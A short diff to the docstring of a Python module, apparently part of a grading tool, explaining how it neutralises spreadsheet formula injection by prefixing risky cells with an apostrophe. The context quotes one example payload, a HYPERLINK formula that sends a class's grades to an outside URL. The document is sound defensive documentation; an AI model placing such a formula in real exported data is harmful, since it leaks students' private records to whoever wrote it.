@@ -4,7 +4,7 @@ A check's message, a load problem or a student's folder name is text the learner
 starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) is a formula to Excel, LibreOffice
 and Google Sheets, and a formula such as ``=HYPERLINK("https://...?d="&TEXTJOIN(",",TRUE,A1:J400), "regrade")``
 sends the whole class's grades to whoever wrote it (OWASP, "CSV injection"). Such a cell gets a leading apostrophe,
-which spreadsheets take as "text" and do not show; numbers are left as they are.
+which spreadsheets take as "text" (some show it, which is harmless); numbers are left as they are.
 """
 
 from __future__ import annotations
